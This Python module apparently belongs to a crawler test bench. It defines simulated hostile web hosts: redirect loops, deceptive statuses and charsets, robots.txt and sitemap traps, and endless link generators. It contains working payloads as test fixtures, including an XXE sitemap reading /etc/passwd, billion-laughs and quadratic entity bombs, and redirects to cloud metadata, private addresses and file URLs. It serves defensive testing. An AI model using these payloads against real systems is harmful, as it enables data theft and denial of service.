"""What the hosts of the hostile web do, over real sockets: redirects, statuses, lies, rules, sitemaps, traps."""

from __future__ import annotations

from bench.hostile import broken
from bench.hostile.asked import SPACE, Answer, Asked, good, page
from bench.hostile.case import SECRET

# Redirects


def redirect(target: str, status: int = 302) -> Answer:
    """An answer that leads to `target`, in which {own} is the host itself and {n} how often it was asked."""

    async def answer(asked: Asked) -> None:
        if asked.path.startswith("/end"):
            await asked.answer(page())
        else:
            where = target.format(own=asked.own, n=asked.total, port=asked.port)
            await asked.answer("", status, Location=where)

    return answer


async def redirect_nowhere(asked: Asked) -> None:
    await asked.answer("", 302)


async def meta_refresh_private(asked: Asked) -> None:
    refresh = f'<meta http-equiv="refresh" content="0; url=http://{SECRET}:{asked.port}/">'
    await asked.answer(page("", refresh))


async def meta_refresh_loop(asked: Asked) -> None:
    await asked.answer(page(SPACE, '<meta http-equiv="refresh" content="0; url=/">'))


# Statuses


def status(code: int, times: int = 10**6, **headers: object) -> Answer:
    """An answer with a status, the first so many times."""

    async def answer(asked: Asked) -> None:
        if asked.times < times:
            await asked.answer("", code, **headers)
        else:
            await asked.answer(page())

    return answer


async def partial(asked: Asked) -> None:
    whole = page(SPACE + "<p>Private office: 300 € per month</p>").encode()
    await asked.answer(whole[:-60], 206, Content_Range=f"bytes 0-{len(whole) - 61}/{len(whole)}")


async def error_page(asked: Asked) -> None:
    await asked.answer(page(), 500)


# Bytes that are not what is said of them


def bytes_of(body: bytes, kind: str) -> Answer:
    """A body under a content type."""

    async def answer(asked: Asked) -> None:
        await asked.answer(body, kind=kind)

    return answer


FRENCH = page(SPACE.replace("Rue Haute 12", "Rue de l’Église 12")).replace("’", "'")


# robots.txt


async def robots_changes(asked: Asked) -> None:
    if asked.path == "/robots.txt":
        await asked.answer("User-agent: *\nDisallow:" + (" /" if asked.times else ""), kind="text/plain")
    else:
        await good(asked)


def robots(text: bytes | str = "", code: int = 200, kind: str = "text/plain", **headers: object) -> Answer:
    """A good site with this robots.txt."""

    async def answer(asked: Asked) -> None:
        if asked.path == "/robots.txt":
            where = {name: str(value).format(own=asked.own, port=asked.port) for name, value in headers.items()}
            await asked.answer(text, code, kind, **where)
        else:
            await good(asked)

    return answer


async def robots_bomb(asked: Asked) -> None:
    if asked.path == "/robots.txt":
        await asked.answer(broken.gzipped(), kind="text/plain", Content_Encoding="gzip")
    else:
        await good(asked)


async def robots_endless(asked: Asked) -> None:
    await (broken.endless(asked) if asked.path == "/robots.txt" else good(asked))


async def robots_silent(asked: Asked) -> None:
    await (broken.silent(asked) if asked.path == "/robots.txt" else good(asked))


async def robots_reset(asked: Asked) -> None:
    if asked.path == "/robots.txt":
        asked.reset()
    else:
        await good(asked)


async def robots_loop(asked: Asked) -> None:
    if asked.path.startswith("/robots"):
        await asked.answer("", 302, Location=f"/robots{asked.total}.txt")
    else:
        await good(asked)


async def tdmrep_reserves(asked: Asked) -> None:
    if asked.path.endswith("tdmrep.json"):
        await asked.answer('[{"location": "/prices", "tdm-reservation": 1}]', kind="application/json")
    else:
        await good(asked)


# Sitemaps


def sitemap(text: bytes | str, kind: str = "text/xml", **headers: object) -> Answer:
    """A good site with this sitemap, in which {own} is the host itself."""

    async def answer(asked: Asked) -> None:
        if asked.path.startswith("/sitemap"):
            said = (
                text.replace("{own}", asked.own).replace("{port}", str(asked.port)) if isinstance(text, str) else text
            )
            await asked.answer(said, kind=kind, **headers)
        else:
            await good(asked)

    return answer


def urls(*addresses: str) -> str:
    """A sitemap of these addresses."""
    listed = "".join(f"<url><loc>{address}</loc></url>" for address in addresses)
    return f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{listed}</urlset>'


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "prices">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]><urlset><url><loc>http://{own}/&l9;</loc></url></urlset>"
)
QUADRATIC = (
    f'<!DOCTYPE x [<!ENTITY a "{"prices" * 20_000}">]>'
    f"<urlset><url><loc>http://{{own}}/{'&a;' * 20_000}</loc></url></urlset>"
)
OUTSIDE = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://' + SECRET + ':{port}/dtd">%p;]>'
    "<urlset><url><loc>http://{own}/prices?&e;</loc></url></urlset>"
)


async def sitemap_bomb(asked: Asked) -> None:
    if asked.path.startswith("/sitemap"):
        await asked.answer(broken.gzipped(), kind="application/gzip")
    else:
        await good(asked)


async def sitemap_of_itself(asked: Asked) -> None:
    if asked.path.startswith("/sitemap"):
        listed = "".join(
            f"<sitemap><loc>http://{asked.own}/sitemap-{asked.total}-{n}.xml</loc></sitemap>" for n in range(50)
        )
        await asked.answer(f"<sitemapindex>{listed}</sitemapindex>", kind="text/xml")
    else:
        await good(asked)


# Traps


def links(template: str, number: int = 6) -> Answer:
    """Pages that link to ever more: {n} is a number never told before, {here} the path itself."""

    async def answer(asked: Asked) -> None:
        new = [template.format(n=asked.total * number + n, here=asked.path.rstrip("/")) for n in range(number)]
        listed = "".join(
            f'<a href="{path}">Prices {n}</a> <a href="{path}">Locations</a> ' for n, path in enumerate(new)
        )
        await asked.answer(page(SPACE + f"<p>{asked.total}</p>" + listed))

    return answer


ANSWERS: dict[str, Answer] = {
    "good": good,
    "good-tls": good,
    "certificate-expired": good,
    "certificate-of-another": good,
    "certificate-by-nobody": good,
    "tls-junk": broken.junk,
    "tls-silent": broken.silent,
    "silent": broken.silent,
    "drip": broken.drip,
    "drip-head": broken.drip_head,
    "reset-at-once": broken.reset_at_once,
    "reset-in-body": broken.reset_in_body,
    "reset-unknown-length": broken.reset_unknown_length,
    "length-too-long": broken.length_too_long,
    "length-too-short": broken.length_too_short,
    "length-huge": broken.length_huge,
    "length-negative": broken.length_negative,
    "lengths-two": broken.lengths_two,
    "endless": broken.endless,
    "endless-chunks": broken.endless_chunks,
    "chunk-lies": broken.chunk_lies,
    "endless-headers": broken.endless_headers,
    "endless-header-line": broken.endless_header_line,
    "endless-continue": broken.endless_continue,
    "http-09": broken.http_09,
    "junk": broken.junk,
    "gzip-bomb": broken.gzip_bomb,
    "deflate-bomb": broken.deflate_bomb,
    "brotli-bomb": broken.brotli_bomb,
    "nested-bomb": broken.nested_bomb,
    "gzip-torn": broken.gzip_torn,
    "gzip-lie": broken.gzip_lie,
    "encoding-unknown": broken.encoding_unknown,
    "deep-html": broken.deep_html,
    "tag-flood": broken.tag_flood,
    "large-html": broken.large_html,
    "redirect-loop": redirect("/?a"),
    "redirect-endless": redirect("/{n}"),
    "redirect-itself": redirect("/"),
    "redirect-private": redirect(f"http://{SECRET}:{{port}}/"),
    "redirect-metadata": redirect("http://169.254.169.254/latest/meta-data/"),
    "redirect-number": redirect("http://2130706433:{port}/"),
    "redirect-v6": redirect("http://[::1]:{port}/"),
    "redirect-file": redirect("file:///etc/passwd"),
    "redirect-script": redirect("javascript:alert(1)"),
    "redirect-credentials": redirect("http://admin:secret@{own}/end"),
    "redirect-other": redirect("http://good.example:{port}/"),
    "redirect-nowhere": redirect_nowhere,
    "redirect-permanent": redirect("/end", 308),
    "refresh-private": meta_refresh_private,
    "refresh-loop": meta_refresh_loop,
    "status-500": status(500),
    "status-500-page": error_page,
    "status-503": status(503, Retry_After=86400),
    "status-429": status(429, Retry_After=86400),
    "status-429-once": status(429, 1, Retry_After=1),
    "status-429-nonsense": status(429, Retry_After="tomorrow"),
    "status-403": status(403),
    "status-451": status(451),
    "status-410": status(410),
    "status-304": status(304),
    "status-204": status(204),
    "status-206": partial,
    "status-999": status(999),
    "status-1000": status(1000),
    "charset-utf8-lie": bytes_of(FRENCH.encode("cp1252"), "text/html; charset=utf-8"),
    "charset-latin-lie": bytes_of(FRENCH.encode(), "text/html; charset=iso-8859-1"),
    "charset-utf16-lie": bytes_of(FRENCH.replace("<title>", "<meta charset=utf-16><title>").encode(), "text/html"),
    "charset-unknown": bytes_of(FRENCH.encode(), "text/html; charset=klingon"),
    "charset-utf7": bytes_of(page("+ADw-script+AD4-" + SPACE).encode(), "text/html; charset=utf-7"),
    "bytes-zero": bytes_of(b"\0" * 5000, "text/html"),
    "bytes-image": bytes_of(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "text/html"),
    "bytes-empty": bytes_of(b"", "text/html"),
    "type-lie": bytes_of(page().encode(), "image/png"),
    "robots-changes": robots_changes,
    "robots-endless": robots_endless,
    "robots-silent": robots_silent,
    "robots-reset": robots_reset,
    "robots-loop": robots_loop,
    "robots-500": robots(code=500),
    "robots-page": robots(page(), kind="text/html"),
    "robots-binary": robots(bytes(range(256)) * 100),
    "robots-bomb": robots_bomb,
    "robots-slow": robots("User-agent: *\nCrawl-delay: 86400\n"),
    "robots-elsewhere": robots("", 302, Location="http://robots-rules.example:{port}/robots.txt"),
    "robots-rules": robots("User-agent: *\nDisallow: /\n"),
    "robots-private": robots("", 302, Location=f"http://{SECRET}:{{port}}/robots.txt"),
    "tdmrep-reserves": tdmrep_reserves,
    "sitemap-laughs": sitemap(LAUGHS),
    "sitemap-quadratic": sitemap(QUADRATIC),
    "sitemap-outside": sitemap(OUTSIDE),
    "sitemap-bomb": sitemap_bomb,
    "sitemap-private": sitemap(
        urls(f"http://{SECRET}:{{port}}/prices", "http://10.0.0.1/prices", "file:///etc/prices")
    ),
    "sitemap-endless": sitemap_of_itself,
    "calendar": links("/locations?month={n}"),
    "calendar-path": links("/events/2026/{n}/prices"),
    "facets": links("/prices?colour={n}&amp;size={n}"),
    "deeper": links("{here}/locations/prices"),
    "sessions": links("/prices/{n}abcdef0123456789"),
    "name-unknown": good,
    "name-private": good,
    "name-moves": good,
    "attribute-flood": broken.attribute_flood,
    "long-line": broken.long_line,
}
"""What each case does."""
